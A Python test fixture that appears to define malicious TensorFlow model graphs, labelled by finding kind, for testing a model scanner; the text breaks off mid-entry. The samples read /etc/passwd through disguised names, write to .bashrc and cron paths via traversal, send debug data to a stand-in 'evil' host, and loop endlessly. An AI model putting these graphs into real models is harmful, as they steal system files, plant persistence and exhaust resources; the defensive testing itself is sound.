"""Models that an attacker made to look harmless, and harmless models that look like them.

A graph is in the notation of tests/tfmodel/transforms/graph_notation.py, with the nodes of `_NODES` before it. A row
of MODELS is a graph with the parts of a SavedModel that matter: what it saves, loads and initializes, its assets and
its outputs.

Confirmed with TensorFlow 2.12.1, each row in a process of its own: the rows of GRAPHS, HARMLESS_GRAPHS and
HARMLESS_MODELS, and of MODELS the 16 that read or write when loaded, restored or run, with the files that the kernel
saw opened. It refuses to load the four with ops that only the model declares. "a loop that the caller controls" and "a
dataset of which some is taken" end or not as the caller says.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

from tests.tfmodel.transforms.graph_notation import graph
from tfmodel.messages import (
    AssetFileDef,
    AttrValue,
    CollectionDef,
    DataType,
    GraphDef,
    MetaGraphDef,
    OpDef,
    OpList,
    SaverDef,
    SignatureDef,
    TensorInfo,
)

__all__ = ["GRAPHS", "HARMLESS_GRAPHS", "HARMLESS_MODELS", "MODELS", "Attack", "Model"]

_NODES = """
x = Placeholder[dtype=float, shape=(2, 3)]
s = Placeholder[dtype=string, shape=()]
b = Placeholder[dtype=bool, shape=()]
i = Const[dtype=int32, value=int32{3}()]
l = Const[dtype=int64, value=int64{1}()]
path = Const[dtype=string, value=string{"/etc/passwd"}()]
empty = Const[dtype=string, value=string{""}()]
ones = Const[dtype=float, value=float{1}(2, 3)]
keys = Const[dtype=string, value=string{"key"}]
whole = Const[dtype=string, value=string{""}]
yes = Const[dtype=bool, value=bool{true}()]
no = Const[dtype=bool, value=bool{false}()]
none = Const[dtype=int64, value=int64{-1}()]
codes = Const[dtype=int32, value=int32{47, 101, 116, 99}]
splits = Const[dtype=int64, value=int64{0, 4}]
text = UnicodeEncode(codes, splits)[Tsplits=int64, errors="replace", output_encoding="UTF-8", replacement_char=65533]
hidden = Reshape(text, shape)[T=string, Tshape=int32]
shape = Const[dtype=int32, value=int32{}(0)]
"""

_DATASET = "d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]\n"
_OF_DATASET = "[output_types=[float], output_shapes=[(2, 3)]]"


@dataclass(frozen=True)
class Attack:
    """A graph, and the kind of the finding about it."""

    kind: str
    text: str

    @property
    def graph(self) -> GraphDef:
        return graph(_NODES + self.text)


def _loop(condition: str, body: str = "r", initial: str = "i", more: str = "") -> str:
    """Return a loop over an int32 `n` with a condition and a body, which may add nodes."""
    return (
        "c: (n: int32) -> (r: bool = r:output:0)\nc: one = Const[dtype=int32, value=int32{1}()]\n"
        "c: t = Const[dtype=bool, value=bool{true}()]\nc: f = Const[dtype=bool, value=bool{false}()]\n"
        f"{condition}\nc: r = Identity(q)[T=bool]\n"
        "g: (n: int32) -> (r: int32 = r:output:0)\ng: one = Const[dtype=int32, value=int32{1}()]\n"
        f"g: m = AddV2(n, one:output:0)[T=int32]\ng: r = Identity({body})[T=int32]\n{more}"
        f"y = While({initial})[T=[int32], cond=@c, body=@g]"
    ).replace("Identity(r)", "Identity(m:z:0)")


_CALL = "[Tin=[string], Tout=[string], f=@f]"

GRAPHS: dict[str, Attack] = {
    # files in attributes and inputs
    "a vocabulary of skip-grams": Attack("read", 'y = Skipgram[filename="/etc/passwd", batch_size=1]'),
    "a constant in a file": Attack(
        "read", 'y = ImmutableConst[dtype=float, shape=(1), memory_region_name="/etc/passwd"]'
    ),
    "an attribute with the name of the input": Attack("read", 'y = ReadFile(path)[filename="harmless"]'),
    "an empty attribute with the name of the input": Attack(
        "write", f'{_DATASET}y = CacheDataset(d, path){_OF_DATASET[:-1]}, filename=""]'
    ),
    "a copy that a debugger watches": Attack(
        "write", 'y = Copy(x)[T=float, debug_ops_spec=["DebugIdentity;file:///tmp;0"]]'
    ),
    "a copy that a debugger sends": Attack(
        "network", 'y = CopyHost(x)[T=float, debug_ops_spec=["DebugIdentity;grpc://evil:1;0"]]'
    ),
    "a heartbeat of a worker": Attack("exit", "y = WorkerHeartbeat(s)"),
    # computed names
    "a name of integers": Attack("read", "y = ReadFile(hidden)"),
    "a cache whose empty name is computed": Attack("write", f"{_DATASET}y = CacheDataset(d, hidden){_OF_DATASET}"),
    "a cache with an empty name or another": Attack(
        "write", f"{_DATASET}c = Select(b, empty, hidden)[T=string]\ny = CacheDataset(d, c){_OF_DATASET}"
    ),
    "the content of a file names a file": Attack("read", "c = ReadFile(s)\ny = ReadFile(c)"),
    "a table gives the name": Attack(
        "write",
        "t = HashTableV2[key_dtype=string, value_dtype=string]\n"
        "z = InitializeTableV2(t, keys, keys)[Tkey=string, Tval=string]\n"
        "c = LookupTableFindV2(t, s, empty)[Tin=string, Tout=string]\ny = WriteFile(c, s)",
    ),
    # checkpoints
    "saving where a default says": Attack(
        "write",
        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\ny = SaveV2(p, keys, whole, x)[dtypes=[float]]",
    ),
    "saving where a default of a default says": Attack(
        "write",
        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\n"
        "q = PlaceholderWithDefault(p)[dtype=string, shape=()]\ny = SaveV2(q, keys, whole, x)[dtypes=[float]]",
    ),
    "restoring what a default says": Attack(
        "read",
        "p = PlaceholderWithDefault(path)[dtype=string, shape=()]\ny = RestoreV2(p, keys, whole)[dtypes=[float]]",
    ),
    "saving where a drive letter says": Attack(
        "write",
        'm = Const[dtype=string, value=string{"C:model"}()]\ny = SaveV2(m, keys, whole, x)[dtypes=[float]]',
    ),
    "saving to a hidden file": Attack(
        "write", 'm = Const[dtype=string, value=string{".bashrc"}()]\ny = SaveV2(m, keys, whole, x)[dtypes=[float]]'
    ),
    "saving to a relative path": Attack(
        "write",
        'm = Const[dtype=string, value=string{"etc/cron.d/x"}()]\ny = SaveV2(m, keys, whole, x)[dtypes=[float]]',
    ),
    "saving by the first version": Attack("write", "y = Save(hidden, keys, x)[T=[float]]"),
    "saving slices": Attack("write", "y = SaveSlices(path, keys, whole, x)[T=[float]]"),
    "saving to the caller's choice or another": Attack(
        "write", "p = Select(no, s, hidden)[T=string]\ny = SaveV2(p, keys, whole, x)[dtypes=[float]]"
    ),
    "saving behind a separator": Attack(
        "write",
        'e = Const[dtype=string, value=string{".part"}()]\n'
        'p = StringJoin(s, e)[N=2, separator="/../../etc/cron.d/"]\ny = SaveV2(p, keys, whole, x)[dtypes=[float]]',
    ),
    "saving behind a part that leads away": Attack(
        "write",
        'e = Const[dtype=string, value=string{"_temp/../../x/part"}()]\n'
        "p = StringJoin(s, e)[N=2]\ny = SaveV2(p, keys, whole, x)[dtypes=[float]]",
    ),
    "saving shards of a fixed name": Attack(
        "write", "p = ShardedFilename(path, i, i)\ny = SaveV2(p, keys, whole, x)[dtypes=[float]]"
    ),
    "merging into a fixed name": Attack(
        "write", "p = Pack(s, s)[T=string, N=2, axis=0]\ny = MergeV2Checkpoints(p, path)"
    ),
    "merging of a fixed name": Attack("read", "p = Pack(s, path)[T=string, N=2, axis=0]\ny = MergeV2Checkpoints(p, s)"),
    "saving to the elements of a dataset": Attack(
        "write",
        "f: (a: string, e: float) -> (r: string = k:output:0)\n"
        "f: n = SaveV2(a, c:output:0, w:output:0, e)[dtypes=[float]]\n"
        'f: c = Const[dtype=string, value=string{"key"}]\nf: w = Const[dtype=string, value=string{""}]\n'
        "f: k = StringLower(a, ^n)\n"
        "d = TensorDataset(hidden, x)[Toutput_types=[string, float], output_shapes=[?, ?]]\n"
        "y = MapDataset(d)[f=@f, Targuments=[], output_types=[string], output_shapes=[?]]",
    ),
    "reading in a function that a gradient calls": Attack(
        "read",
        "f: (a: string, e: float) -> (r: float = k:z:0)\nf: n = ReadFile(a)\nf: l = StringLength(n:contents:0)\n"
        "f: d = Cast(l:output:0)[SrcT=int32, DstT=float]\nf: k = Mul(e, d:y:0)[T=float]\n"
        "y = SymbolicGradient(path, x, x)[Tin=[string, float, float], Tout=[string, float], f=@f]",
    ),
    # variables
    "a variable with another value": Attack(
        "write",
        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\na = AssignVariableOp(v, empty)[dtype=string]\n'
        'w = VarHandleOp[dtype=string, shape=(), shared_name="v"]\nz = AssignVariableOp(w, path)[dtype=string]\n'
        f"r = ReadVariableOp(v)[dtype=string]\n{_DATASET}y = CacheDataset(d, r){_OF_DATASET}",
    ),
    "a variable that a checkpoint restores": Attack(
        "write",
        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\nr = RestoreV2(s, keys, whole)[dtypes=[string]]\n'
        "a = AssignVariableOp(v, r)[dtype=string]\nq = ReadVariableOp(v)[dtype=string]\n"
        "y = SaveV2(q, keys, whole, x)[dtypes=[float]]",
    ),
    "a variable of TensorFlow 1": Attack(
        "write",
        "v = VariableV2[dtype=string, shape=()]\na = Assign(v, path)[T=string]\n"
        "y = SaveV2(v, keys, whole, x)[dtypes=[float]]",
    ),
    "a variable that a function sets": Attack(
        "write",
        "f: (h: resource, a: string) -> (r: string = k:output:0)\nf: n = AssignVariableOp(h, a)[dtype=string]\n"
        "f: k = Identity(a, ^n)[T=string]\n"
        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\n'
        "z = StatefulPartitionedCall(v, path)[Tin=[resource, string], Tout=[string], f=@f]\n"
        "q = ReadVariableOp(v)[dtype=string]\ny = SaveV2(q, keys, whole, x)[dtypes=[float]]",
    ),
    "a variable that nothing sets": Attack(
        "write",
        'v = VarHandleOp[dtype=string, shape=(), shared_name="v"]\nq = ReadVariableOp(v)[dtype=string]\n'
        "y = SaveV2(q, keys, whole, x)[dtypes=[float]]",
    ),
    # functions
    "a name from a branch": Attack(
        "write",
        'f: (a: string) -> (r: string = n:output:0)\nf: n = Const[dtype=string, value=string{"/etc/x"}()]\n'
        "g: (a: string) -> (r: string = a)\n"
        "p = If(b, s)[Tcond=bool, Tin=[string], Tout=[string], then_branch=@g, else_branch=@f]\n"
        "y = SaveV2(p, keys, whole, x)[dtypes=[float]]",
    ),
    "a name from a loop that does not run": Attack(
        "write",
        "f: (a: string) -> (r: bool = n:output:0)\nf: n = Const[dtype=bool, value=bool{false}()]\n"
        'g: (a: string) -> (r: string = n:output:0)\ng: n = Const[dtype=string, value=string{"model"}()]\n'
        "p = While(hidden)[T=[string], cond=@f, body=@g]\ny = SaveV2(p, keys, whole, x)[dtypes=[float]]",
    ),
    "a function with the name of an op": Attack(
        "function", "ReadFile: (filename: string) -> (contents: string = filename)\ny = ReadFile(path)"
    ),
    # loops
    "a condition that a function gives": Attack(
        "endless",
        "t: (n: int32) -> (r: bool = o:output:0)\nt: o = Const[dtype=bool, value=bool{true}()]\n"
        + _loop("c: q = PartitionedCall(n)[Tin=[int32], Tout=[bool], f=@t]").replace(
            "Identity(q)", "Identity(q:output:0)"
        ),
    ),
    "not false": Attack("endless", _loop("c: q = LogicalNot(f:output:0)").replace("(q)", "(q:y:0)")),
    "true or not": Attack(
        "endless",
        _loop("c: p = Less(n, one:output:0)[T=int32]\nc: q = LogicalOr(p:z:0, t:output:0)").replace("(q)", "(q:z:0)"),
    ),
    "one is one": Attack(
        "endless", _loop("c: q = Equal(one:output:0, one:output:0)[T=int32]").replace("(q)", "(q:z:0)")
    ),
    "a counter equals itself": Attack("endless", _loop("c: q = LessEqual(n, n)[T=int32]").replace("(q)", "(q:z:0)")),
    "a counter that stays": Attack(
        "endless",
        _loop("c: q = GreaterEqual(n, one:output:0)[T=int32]", body="n").replace("(q)", "(q:z:0)"),
    ),
    "a number that becomes true": Attack(
        "endless", _loop("c: q = Cast(one:output:0)[SrcT=int32, DstT=bool]").replace("(q)", "(q:y:0)")
    ),
    "a choice of true": Attack(
        "endless", _loop("c: q = Select(t:output:0, t:output:0, f:output:0)[T=bool]").replace("(q)", "(q:output:0)")
    ),
    "a condition of a vector": Attack(
        "endless",
        _loop(
            "c: v = Const[dtype=bool, value=bool{true, true}]\nc: z = Const[dtype=int32, value=int32{0}]\n"
            "c: q = All(v:output:0, z:output:0)[Tidx=int32]"
        ).replace("(q)", "(q:output:0)"),
    ),
    "a loop without state": Attack(
        "endless",
        _loop("c: q = Identity(t:output:0)[T=bool]")
        .replace("(q)", "(q:output:0)")
        .replace("= While", "= StatelessWhile"),
    ),
    "a loop in a function that is told to run": Attack(
        "endless",
        "c: (n: bool) -> (r: bool = n)\ng: (n: bool) -> (r: bool = n)\n"
        "f: (a: bool) -> (r: bool = w:output:0)\nf: w = While(a)[T=[bool], cond=@c, body=@g]\n"
        "y = StatefulPartitionedCall(yes)[Tin=[bool], Tout=[bool], f=@f]",
    ),
    "a flag that the body sets again": Attack(
        "endless",
        "c: (n: bool) -> (r: bool = n)\ng: (n: bool) -> (r: bool = t:output:0)\n"
        "g: t = Const[dtype=bool, value=bool{true}()]\ny = While(yes)[T=[bool], cond=@c, body=@g]",
    ),
    "a loop of TensorFlow 1 with a counter that stays": Attack(
        "endless",
        'e = Enter(i)[T=int32, frame_name="f"]\nm = Merge(e, n)[T=int32, N=2]\n'
        'k = Enter(i)[T=int32, frame_name="f", is_constant=true]\nq = LessEqual(m, k)[T=int32]\nc = LoopCond(q)\n'
        "w = Switch(m, c)[T=int32]\nn = NextIteration(w:1)[T=int32]\ny = Exit(w)[T=int32]",
    ),
    "a loop of TensorFlow 1 with not false": Attack(
        "endless",
        'e = Enter(x)[T=float, frame_name="f"]\nm = Merge(e, n)[T=float, N=2]\n'
        'k = Enter(no)[T=bool, frame_name="f", is_constant=true]\nq = LogicalNot(k)\nc = LoopCond(q)\n'
        "w = Switch(m, c)[T=float]\nn = NextIteration(w:1)[T=float]\ny = Exit(w)[T=float]",
    ),
    "a function that calls itself": Attack(
        "endless",
        f"f: (a: string) -> (r: string = n:output:0)\nf: n = PartitionedCall(a){_CALL}\ny = PartitionedCall(s){_CALL}",
    ),
    "functions that call each other": Attack(
        "endless",
        "f: (a: string) -> (r: string = n:output:0)\nf: n = PartitionedCall(a)[Tin=[string], Tout=[string], f=@g]\n"
        f"g: (a: string) -> (r: string = n:output:0)\ng: n = StatefulPartitionedCall(a){_CALL}\n"
        f"y = StatefulPartitionedCall(s){_CALL}",
    ),
    "a function that calls itself in a branch": Attack(
        "endless",
        "g: (a: string) -> (r: string = a)\n"
        "f: (a: string) -> (r: string = n:output:0)\nf: t = Const[dtype=bool, value=bool{true}()]\n"
        "f: n = If(t:output:0, a)[Tcond=bool, Tin=[string], Tout=[string], then_branch=@f, else_branch=@g]\n"
        f"y = StatefulPartitionedCall(s){_CALL}",
    ),
    "a function that calls itself by its name": Attack(
        "endless", "f: (a: string) -> (r: string = n:r:0)\nf: n = f(a)\ny = f(s)"
    ),
    "two flags that change places": Attack(
        "endless",
        "c: (n: bool, m: bool) -> (r: bool = q:z:0)\nc: q = LogicalOr(n, m)\n"
        "g: (n: bool, m: bool) -> (r: bool = m, t: bool = n)\ny = While(yes, no)[T=[bool, bool], cond=@c, body=@g]",
    ),
    "a dataset behind another": Attack(
        "endless",
        f"f: (a: float, e: float) -> (r: float = a)\n{_DATASET}e = RepeatDataset(d, none){_OF_DATASET}\n"
        f"k = ConcatenateDataset(d, e){_OF_DATASET}\n"
        "y = ReduceDataset(k, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    ),
    "a dataset in each element of another": Attack(
        "endless",
        "f: (a: float, e: float) -> (r: float = a)\n"
        "h: (e: float) -> (r: variant = k:handle:0)\nh: c = Const[dtype=int64, value=int64{-1}()]\n"
        "h: t = TensorDataset(e)[Toutput_types=[float], output_shapes=[(2, 3)]]\n"
        f"h: k = RepeatDataset(t:handle:0, c:output:0){_OF_DATASET}\n"
        f"{_DATASET}k = FlatMapDataset(d)[f=@h, Targuments=[], output_types=[float], output_shapes=[(2, 3)]]\n"
        "y = ReduceDataset(k, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    ),
    "a number or its opposite": Attack(
        "endless",
        _loop(
            "c: k = LessEqual(one:output:0, n)[T=int32]\nc: p = Less(n, one:output:0)[T=int32]\n"
            "c: q = LogicalOr(p:z:0, k:z:0)"
        ).replace("(q)", "(q:z:0)"),
    ),
    "a square that is not negative": Attack(
        "endless",
        "c: (n: float) -> (r: bool = q:z:0)\nc: k = Const[dtype=float, value=float{-1}()]\nc: p = Square(n)[T=float]\n"
        "c: q = Greater(p:y:0, k:output:0)[T=float]\ng: (n: float) -> (r: float = m:z:0)\n"
        "g: one = Const[dtype=float, value=float{1}()]\ng: m = AddV2(n, one:output:0)[T=float]\n"
        "f1 = Const[dtype=float, value=float{1}()]\ny = While(f1)[T=[float], cond=@c, body=@g]",
    ),
    "a rank that is not negative": Attack(
        "endless",
        _loop(
            "c: k = Const[dtype=int32, value=int32{0}()]\nc: p = Rank(n)[T=int32]\n"
            "c: q = LessEqual(k:output:0, p:output:0)[T=int32]"
        ).replace("(q)", "(q:z:0)"),
    ),
    "a counter that goes back to zero": Attack(
        "endless",
        _loop("c: k = Const[dtype=int32, value=int32{9}()]\nc: q = Less(n, k:output:0)[T=int32]")
        .replace("(q)", "(q:z:0)")
        .replace("AddV2(n, one:output:0)", "Sub(n, n)"),
    ),
    "a condition that is a number": Attack(
        "endless",
        "c: (n: int32) -> (r: int32 = n)\ng: (n: int32) -> (r: int32 = n)\ny = While(i)[T=[int32], cond=@c, body=@g]",
    ),
    "a loop in the function of a dataset": Attack(
        "endless",
        f"{_DATASET}c: (n: bool) -> (r: bool = n)\ng: (n: bool) -> (r: bool = n)\n"
        "f: (e: float) -> (r: bool = w:output:0)\n"
        "f: t = Const[dtype=bool, value=bool{true}()]\nf: w = While(t:output:0)[T=[bool], cond=@c, body=@g]\n"
        "y = MapDataset(d)[f=@f, Targuments=[], output_types=[bool], output_shapes=[()]]",
    ),
    "a counted loop for years": Attack(
        "endless",
        "g: (k: int32, n: int32) -> (r: int32 = n)\nbig = Const[dtype=int32, value=int32{2147483647}()]\n"
        "one = Const[dtype=int32, value=int32{1}()]\ny = For(shape0, big, one, i)[T=[int32], body=@g]\n"
        "shape0 = Const[dtype=int32, value=int32{0}()]",
    ),
    "calls that double sixty times": Attack(
        "endless",
        "f0: (a: string) -> (r: string = a)\n"
        + "".join(
            f"f{number}: (a: string) -> (r: string = n:output:0)\n"
            f"f{number}: m = PartitionedCall(a)[Tin=[string], Tout=[string], f=@f{number - 1}]\n"
            f"f{number}: n = PartitionedCall(m:output:0)[Tin=[string], Tout=[string], f=@f{number - 1}]\n"
            for number in range(1, 61)
        )
        + "y = PartitionedCall(s)[Tin=[string], Tout=[string], f=@f60]",
    ),
    "a dataset of a computed number of repetitions": Attack(
        "endless",
        "f: (a: float, e: float) -> (r: float = a)\nz = Const[dtype=int64, value=int64{0}()]\n"
        f"c = Sub(z, l)[T=int64]\n{_DATASET}e = RepeatDataset(d, c){_OF_DATASET}\n"
        "y = ReduceDataset(e, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    ),
    "a dataset of all numbers": Attack(
        "endless",
        "f: (a: float, e: int64) -> (r: float = a)\nz = Const[dtype=int64, value=int64{0}()]\n"
        "big = Const[dtype=int64, value=int64{4611686018427387904}()]\n"
        "d = RangeDataset(z, big, l)[output_types=[int64], output_shapes=[()]]\n"
        "y = ReduceDataset(d, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]",
    ),
    "a call of another program": Attack(
        "network", 'h = StubResourceHandleOp[shared_name="c"]\ny = RpcCall(h, s, x, l)[Tin=[float]]'
    ),
    "a name with a number": Attack(
        "read",
        """
n7 = AsString(i)[T=int32]
p = StringJoin(path, n7)[N=2]
y = ReadFile(p)
""",
    ),
    "a part of a text": Attack(
        "read",
        """
lg = Const[dtype=string, value=string{"xx/etc/passwd"}()]
p0 = Const[dtype=int32, value=int32{2}()]
ln = Const[dtype=int32, value=int32{11}()]
p = Substr(lg, p0, ln)[T=int32]
y = ReadFile(p)
""",
    ),
    "a name in base64": Attack(
        "read",
        """
bb = Const[dtype=string, value=string{"L2V0Yy9wYXNzd2Q"}()]
p = DecodeBase64(bb)
y = ReadFile(p)
""",
    ),
    "a name in small letters": Attack(
        "read",
        """
p = StringLower(path)
y = ReadFile(p)
""",
    ),
    "a name without spaces": Attack(
        "write",
        """
p = StringStrip(path)
y = WriteFile(p, s)
""",
    ),
    "a name among distinct ones": Attack(
        "read",
        """
k2 = Pack(path)[T=string, N=1, axis=0]
p = Unique(k2)[T=string, out_idx=int32]
q = Reshape(p, shape)[T=string, Tshape=int32]
y = ReadFile(q)
""",
    ),
    "a name that is stitched": Attack(
        "read",
        """
ix = Const[dtype=int32, value=int32{0}]
k2 = Pack(path)[T=string, N=1, axis=0]
p = DynamicStitch(ix, k2)[N=1, T=string]
q = Reshape(p, shape)[T=string, Tshape=int32]
y = ReadFile(q)
""",
    ),
    "a name in a list": Attack(
        "read",
        """
es = Const[dtype=int32, value=int32{}(0)]
k2 = Pack(path)[T=string, N=1, axis=0]
t = TensorListFromTensor(k2, es)[element_dtype=string, shape_type=int32]
z0 = Const[dtype=int32, value=int32{0}()]
p = TensorListGetItem(t, z0, es)[element_dtype=string]
y = ReadFile(p)
""",
    ),
    "a name in a queue": Attack(
        "read",
        """
f = FIFOQueueV2[component_types=[string], shapes=[()], shared_name="q"]
z = QueueEnqueueV2(f, path)[Tcomponents=[string]]
p = QueueDequeueV2(f)[component_types=[string]]
y = ReadFile(p)
""",
    ),
    "a name in an array": Attack(
        "read",
        """
sz = Const[dtype=int32, value=int32{1}()]
z0 = Const[dtype=int32, value=int32{0}()]
fl = Const[dtype=float, value=float{0}()]
t = TensorArrayV3(sz)[dtype=string, element_shape=?]
w = TensorArrayWriteV3(t, z0, path, t:1)[T=string]
p = TensorArrayReadV3(t, z0, w)[dtype=string]
y = ReadFile(p)
""",
    ),
    "a name in a staging area": Attack(
        "read",
        """
z = Stage(path)[dtypes=[string], shared_name="st"]
p = Unstage()[dtypes=[string], shared_name="st"]
y = ReadFile(p)
""",
    ),
    "a function that is mapped": Attack(
        "read",
        """
f: (a: string) -> (r: string = n:contents:0)
f: n = ReadFile(a)
k2 = Pack(path)[T=string, N=1, axis=0]
y = MapDefun(k2)[Targuments=[string], Tcaptured=[], output_types=[string], output_shapes=[()], f=@f,
    max_intra_op_parallelism=1]
""",
    ),
    "a call on a device": Attack(
        "read",
        """
f: (a: string) -> (r: string = n:contents:0)
f: n = ReadFile(a)
dv = Const[dtype=string, value=string{"/cpu:0"}()]
y = RemoteCall(dv, path)[Tin=[string], Tout=[string], f=@f]
""",
    ),
    "a case": Attack(
        "read",
        """
f: (a: string) -> (r: string = n:contents:0)
f: n = ReadFile(a)
z0 = Const[dtype=int32, value=int32{0}()]
y = Case(z0, path)[Tin=[string], Tout=[string], branches=[@f], output_shapes=[?]]
""",
    ),
    "a snapshot with functions": Attack(
        "write",
        """
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
y = SnapshotDatasetV2(d, path)[output_types=[float], output_shapes=[(2, 3)], reader_func=@rf, shard_func=@sf,
    Treader_func_args=[], Tshard_func_args=[]]
rf: (a: variant) -> (r: variant = a)
sf: (a: float) -> (r: int64 = n:output:0)
sf: n = Const[dtype=int64, value=int64{0}()]
""",
    ),
    "a cache of the second version": Attack(
        "write",
        """
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
c = DummyMemoryCache
y = CacheDatasetV2(d, path, c)[output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "records of fixed length": Attack(
        "read",
        """
y = FixedLengthRecordDatasetV2(path, l, l, l, l, empty)
""",
    ),
    "a dataset of comma-separated values": Attack(
        "read",
        """
fd = Const[dtype=string, value=string{","}()]
de = Const[dtype=string, value=string{""}]
sel = Const[dtype=int64, value=int64{}(0)]
qq = Const[dtype=bool, value=bool{true}()]
y = CSVDataset(path, empty, l, no, fd, yes, empty, sel, de)[output_types=[string], output_shapes=[()]]
""",
    ),
    "a dataset of a database": Attack(
        "read",
        """
y = LMDBDataset(path)[output_types=[string, string], output_shapes=[(), ()]]
""",
    ),
    "a dataset that was saved": Attack(
        "read",
        """
rf: (a: variant) -> (r: variant = a)
y = LoadDataset(path)[output_types=[float], output_shapes=[(2, 3)], compression="", reader_func=@rf,
    Treader_func_args=[]]
""",
    ),
    "a reader of names in a queue": Attack(
        "read",
        """
q = FIFOQueueV2[component_types=[string], shapes=[()]]
z = QueueEnqueueV2(q, path)[Tcomponents=[string]]
r = TextLineReaderV2
y = ReaderReadV2(r, q)
""",
    ),
    "a file for each element of a dataset": Attack(
        "read",
        """
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
f: (a: float) -> (r: variant = n:handle:0)
f: p = Const[dtype=string, value=string{"/etc/passwd"}()]
f: e = Const[dtype=string, value=string{""}()]
f: k = Const[dtype=int64, value=int64{1}()]
f: n = TFRecordDataset(p:output:0, e:output:0, k:output:0)
y = InterleaveDataset(d, l, l)[f=@f, Targuments=[], output_types=[string], output_shapes=[()]]
""",
    ),
    "a generator of a dataset": Attack(
        "read",
        """
f: (a: string) -> (r: string = a)
h: (a: string) -> (r: string = n:contents:0)
h: n = ReadFile(a)
y = GeneratorDataset(path, path, path)[init_func=@f, next_func=@h, finalize_func=@f, Tinit_func_args=[string],
    Tnext_func_args=[string], Tfinalize_func_args=[string], output_types=[string], output_shapes=[()]]
""",
    ),
    "a name behind a Switch": Attack(
        "read",
        """
w = Switch(path, yes)[T=string]
y = ReadFile(w:1)
""",
    ),
    "a name in a frame": Attack(
        "read",
        """
e = Enter(path)[T=string, frame_name="q"]
y0 = ReadFile(e)
y = Exit(y0)[T=string]
""",
    ),
    "a function that prints to a file": Attack(
        "write",
        """
f: (a: string) -> (r: string = k:output:0)
f: n = PrintV2(a)[output_stream="file:///tmp/log", end=""]
f: k = Identity(a, ^n)[T=string]
y = StatefulPartitionedCall(s)[Tin=[string], Tout=[string], f=@f]
""",
    ),
    "saving where a computed default says": Attack(
        "write",
        """
q = Identity(path)[T=string]
p = PlaceholderWithDefault(q)[dtype=string, shape=()]
y = SaveV2(p, keys, whole, x)[dtypes=[float]]
""",
    ),
    "files of a sharded checkpoint": Attack(
        "list",
        """
p = ShardedFilespec(path, i)
y = MatchingFiles(p)
""",
    ),
    "summaries at a computed place": Attack(
        "write",
        """
w = SummaryWriter[shared_name="w"]
y = CreateSummaryFileWriter(w, hidden, i, i, empty)
""",
    ),
    "summaries that are imported": Attack(
        "write",
        """
w = SummaryWriter[shared_name="w"]
z = CreateSummaryFileWriter(w, path, i, i, empty)
y = ImportEvent(w, s)
""",
    ),
    "a table of TensorFlow 1 from a file": Attack(
        "read",
        """
t = HashTable[key_dtype=string, value_dtype=int64]
y = InitializeTableFromTextFile(t, path)[key_index=-2, value_index=-1]
""",
    ),
    "a function that calls itself in a case": Attack(
        "endless",
        """
f: (a: string) -> (r: string = n:output:0)
f: t = Const[dtype=int32, value=int32{0}()]
f: n = Case(t:output:0, a)[Tin=[string], Tout=[string], branches=[@f], output_shapes=[?]]
y = StatefulPartitionedCall(s)[Tin=[string], Tout=[string], f=@f]
""",
    ),
    "a dataset that is taken while true is true": Attack(
        "endless",
        """
f: (a: float, e: float) -> (r: float = a)
p: (e: float) -> (r: bool = t:output:0)
p: t = Const[dtype=bool, value=bool{true}()]
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
e = RepeatDataset(d, none)[output_types=[float], output_shapes=[(2, 3)]]
w = TakeWhileDataset(e)[predicate=@p, Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
y = ReduceDataset(w, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "a dataset without an element": Attack(
        "endless",
        """
p: (e: float) -> (r: bool = t:output:0)
p: t = Const[dtype=bool, value=bool{false}()]
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
e = RepeatDataset(d, none)[output_types=[float], output_shapes=[(2, 3)]]
w = FilterDataset(e)[predicate=@p, Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
y = DatasetToSingleElement(w)[output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "a dataset of which too much is taken": Attack(
        "endless",
        """
f: (a: float, e: float) -> (r: float = a)
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
e = RepeatDataset(d, none)[output_types=[float], output_shapes=[(2, 3)]]
big = Const[dtype=int64, value=int64{9223372036854775807}()]
w = TakeDataset(e, big)[output_types=[float], output_shapes=[(2, 3)]]
y = ReduceDataset(w, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "a dataset of which all is taken": Attack(
        "endless",
        """
f: (a: float, e: float) -> (r: float = a)
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
e = RepeatDataset(d, none)[output_types=[float], output_shapes=[(2, 3)]]
w = TakeDataset(e, none)[output_types=[float], output_shapes=[(2, 3)]]
y = ReduceDataset(w, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "datasets side by side": Attack(
        "endless",
        """
f: (a: float, e: float, e2: float) -> (r: float = a)
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
e = RepeatDataset(d, none)[output_types=[float], output_shapes=[(2, 3)]]
w = ZipDataset(e, e)[N=2, output_types=[float, float], output_shapes=[(2, 3), (2, 3)]]
y = ReduceDataset(w, x)[f=@f, Tstate=[float], Targuments=[], output_types=[float], output_shapes=[(2, 3)]]
""",
    ),
    "a dataset that is shuffled and repeated": Attack(
        "endless",
        """
f: (a: float, e: float) -> (r: float = a)
d = TensorDataset(x)[Toutput_types=[float], output_shapes=[(2, 3)]]
